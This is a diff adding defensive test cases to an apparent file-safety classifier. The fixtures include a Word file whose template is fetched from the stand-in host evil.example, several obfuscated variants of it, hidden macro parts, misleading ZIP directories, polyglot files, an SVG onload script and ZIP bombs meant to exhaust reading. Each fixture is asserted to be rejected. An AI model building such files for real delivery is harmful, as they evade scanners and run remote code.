@@ -77,6 +77,56 @@ describe('what may be opened in another program', () => {
   })
 })
 
+/** A Word file with a list of relations of its settings. */
+const withRelation = (relation: string, encoding = 'utf-8') =>
+  makeOffice('docx', [
+    {
+      name: 'word/_rels/settings.xml.rels',
+      text: `<?xml version="1.0" encoding="${encoding}"?><Relationships>${relation}</Relationships>`.replace(
+        / Type=/g,
+        encoding === 'utf-7' ? ' +AFQ-ype=' : ' Type=',
+      ),
+    },
+  ])
+
+const officeParts = [
+  {
+    name: '[Content_Types].xml',
+    text: `<Types><Override PartName="/word/document.xml" ContentType="${office}wordprocessingml.document.main+xml"/></Types>`,
+  },
+  { name: 'word/document.xml', text: '<x/>' },
+]
+
+/** Its last entry ends with the mark of a directory of the large form. */
+const withLargeDirectory = (() => {
+  const file = makeZip(officeParts)
+  const end = file.lastIndexOf('PK\x05\x06')
+  const last = Buffer.from(file.subarray(0, end))
+  last.writeUInt16LE(20, last.lastIndexOf('PK\x01\x02') + 32)
+  const tail = Buffer.from(file.subarray(end))
+  tail.writeUInt32LE(tail.readUInt32LE(12) + 20, 12)
+  return Buffer.concat([last, Buffer.from('PK\x06\x07'.padEnd(20, '\0'), 'latin1'), tail])
+})()
+
+/** The directory does not list the last file before it. */
+const withPartBetween = (() => {
+  const file = makeZip(officeParts)
+  const directory = file.indexOf('PK\x01\x02')
+  const more = zip.subarray(0, zip.indexOf('PK\x01\x02'))
+  const rest = Buffer.from(file.subarray(directory))
+  const end = rest.lastIndexOf('PK\x05\x06')
+  rest.writeUInt32LE(directory + more.length, end + 16)
+  return Buffer.concat([file.subarray(0, directory), more, rest])
+})()
+
+const withOtherName = (() => {
+  const file = makeOffice('docx', [{ name: 'word/media/evil.exe', text: 'MZ' }])
+  file.write('word/media/good.png', file.lastIndexOf('word/media/evil.exe'))
+  return file
+})()
+
+const music = Buffer.concat([Buffer.from('4944330400000000000a', 'hex'), Buffer.from('<script>xx')])
+
 describe('what is never opened', () => {
   const template =
     '<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"/>'
@@ -209,6 +259,87 @@ describe('what is never opened', () => {
     ['bytes that are nothing', 'a.txt', Buffer.from([0, 1, 2, 3, 250, 255, 7])],
     ['a text with bytes far behind', 'a.txt', Buffer.concat([Buffer.alloc(70_000, 'text '), Buffer.from([0, 1, 2])])],
     ['a film', 'a.mp4', Buffer.from('00000018667479706d703432000000006d70343269736f6d', 'hex')],
+    [
+      'a Word file that fetches its template, with a letter as its number',
+      'a.docx',
+      withRelation(template.replace('External', 'Ext&#101;rnal')),
+    ],
+    [
+      'a Word file that fetches its template from a place that is called as a link',
+      'a.docx',
+      withRelation(template.replace('x.dotm', 'x.dotm?/hyperlink')),
+    ],
+    ['a Word file that fetches its template, in UTF-7', 'a.docx', withRelation(template, 'utf-7')],
+    ['a Word file of which a list of relations is damaged', 'a.docx', withRelation('<Relationship <')],
+    [
+      'a Word file of which the list of relations is in pieces',
+      'a.docx',
+      makeOffice('docx', [{ name: 'word/_rels/settings.xml.rels/[0].last.piece', text: template }]),
+    ],
+    [
+      'a Word file with letters of a part’s name as numbers',
+      'a.docx',
+      makeOffice('docx', [{ name: 'word/_rels/settings.xml.%72els', text: template }]),
+    ],
+    [
+      'a Word file with rich text as a part of it',
+      'a.docx',
+      withRelation(
+        '<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" Target="part.rtf"/>',
+      ),
+    ],
+    [
+      'a Word file with macros in a part of another name',
+      'a.docx',
+      withRelation(
+        '<Relationship Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="notes.dat"/>',
+      ),
+    ],
+    [
+      'a Word file with macros, their type with a letter as its number',
+      'a.docx',
+      makeZip([
+        {
+          name: '[Content_Types].xml',
+          text: `<Types><Override PartName="/word/document.xml" ContentType="${office}wordprocessingml.document.main+xml"/><Default Extension="dat" ContentType="application/vnd.ms-office.vba&#80;roject"/></Types>`,
+        },
+        { name: 'word/document.xml', text: '<x/>' },
+        { name: 'word/notes.dat', text: 'x' },
+      ]),
+    ],
+    [
+      'a Word file whose list of types is damaged',
+      'a.docx',
+      makeZip([
+        {
+          name: '[Content_Types].xml',
+          text: `<Types><Override PartName="/word/document.xml" ContentType="${office}wordprocessingml.document.main+xml"/><Default &`,
+        },
+        { name: 'word/document.xml', text: '<x/>' },
+      ]),
+    ],
+    [
+      'a Word file with a document with macros in it',
+      'a.docx',
+      makeOffice('docx', [{ name: 'word/embeddings/x.docm', text: 'x' }]),
+    ],
+    [
+      'a zip whose comment holds another directory',
+      'a.docx',
+      makeZip(officeParts, zip.subarray(-80).toString('latin1')),
+    ],
+    ['a zip with a directory of the large form', 'a.docx', withLargeDirectory],
+    ['a zip with another between its parts', 'a.docx', withPartBetween],
+    ['a zip that lists a part under another name', 'a.docx', withOtherName],
+    [
+      'a document with a zip inside and its own end behind',
+      'a.pdf',
+      Buffer.concat([pdf, zip, Buffer.from('\n%%EOF\n')]),
+    ],
+    ['a picture behind a description of music', 'a.png', Buffer.concat([music, png])],
+    ['a GIF behind a description of music', 'a.gif', Buffer.concat([music, gif])],
+    ['a vector picture behind comments', 'a.txt', `${'<!-- -->\n'.repeat(40)}<svg onload="alert(1)"/>`],
+    ['a page behind a comment and a declaration', 'a.txt', '<!-- x --><?xml version="1.0"?><html>'],
     ['a disk image', 'a.pdf', Buffer.concat([Buffer.alloc(32_769), Buffer.from('CD001'), Buffer.alloc(100)])],
   ])('%s (%s)', async (_what, name, bytes) => {
     expect(await judge(name, bytes)).toMatchObject({ openable: false })
@@ -250,4 +381,62 @@ test('whatever a file is made of, it is judged', async () => {
 test('a telephone’s picture with a film behind it is still a picture', async () => {
   const film = Buffer.concat([Buffer.from('00000018667479706d703432', 'hex'), Buffer.alloc(5_000, 7)])
   expect(await judge('a.jpg', Buffer.concat([jpeg, film]))).toMatchObject({ type: 'image/jpeg', openable: true })
+})
+
+test('a text of many comments, digits or marks is judged at once', async () => {
+  expect(await judge('a.xml', `<?xml version="1.0"?>${'<!-- -->'.repeat(2_000)}<x/>`)).toMatchObject({
+    type: 'application/xml',
+  })
+  expect(await judge('a.txt', `${'<!-- -->'.repeat(2_000)}<x/>`)).toMatchObject({ type: 'text/plain' })
+  expect(await judge('a.txt', `From ${'x'.repeat(60_000)}`)).toMatchObject({ type: 'text/plain' })
+  expect(await judge('a.txt', `See %PDF-1 ${'1'.repeat(60_000)}`)).toMatchObject({ type: 'text/plain' })
+})
+
+describe('a hostile ZIP', () => {
+  /** Reads as from a real file, counting the bytes: a place before the file cannot be read. */
+  async function bytesRead(bytes: Buffer) {
+    let total = 0
+    const read = async (offset: number, length: number) => {
+      if (offset < 0 || length < 0) throw new RangeError(`no place in a file: ${offset}`)
+      const piece = bytes.subarray(offset, offset + length)
+      total += piece.byteLength
+      return piece
+    }
+    const judgement = await judgeFile({ name: 'a.docx', size: bytes.byteLength, head: bytes.subarray(0, 65_536), read })
+    return { total, judgement }
+  }
+
+  test('whose directory names a place before the file is judged', async () => {
+    const file = makeOffice('docx')
+    const end = file.lastIndexOf('PK\x05\x06')
+    file.writeUInt32LE(file.readUInt32LE(end + 16) + 5_000, end + 16)
+    expect((await bytesRead(file)).judgement.caution).not.toBeNull()
+  })
+
+  test('with a hundred thousand marks of an end is not read for each of them', async () => {
+    const file = Buffer.alloc(6 * 1024 * 1024, 1)
+    file.write('PK\x03\x04', 'latin1')
+    for (let at = 5 * 1024 * 1024; at + 22 < file.length; at += 22) {
+      file.write('PK\x05\x06', at, 'latin1')
+      file.writeUInt32LE(4 * 1024 * 1024 - (at % 4), at + 12)
+    }
+    expect((await bytesRead(file)).total).toBeLessThan(64 * 1024 * 1024)
+  })
+
+  test('with a list of relations that is listed many times is read once at most', async () => {
+    const text = `<Relationships>${' '.repeat(900_000)}</Relationships>`
+    const file = makeOffice('docx', [{ name: 'word/_rels/a.rels', text }])
+    const end = file.lastIndexOf('PK\x05\x06')
+    const entry = file.subarray(file.lastIndexOf('PK\x01\x02'), end)
+    const tail = Buffer.from(file.subarray(end))
+    const count = 20_000
+    tail.writeUInt16LE(4 + count, 8)
+    tail.writeUInt16LE(4 + count, 10)
+    tail.writeUInt32LE(tail.readUInt32LE(12) + count * entry.length, 12)
+    const { total, judgement } = await bytesRead(
+      Buffer.concat([file.subarray(0, end), ...Array.from({ length: count }, () => entry), tail]),
+    )
+    expect(judgement.caution).toBe('odd')
+    expect(total).toBeLessThan(16 * 1024 * 1024)
+  })
 })
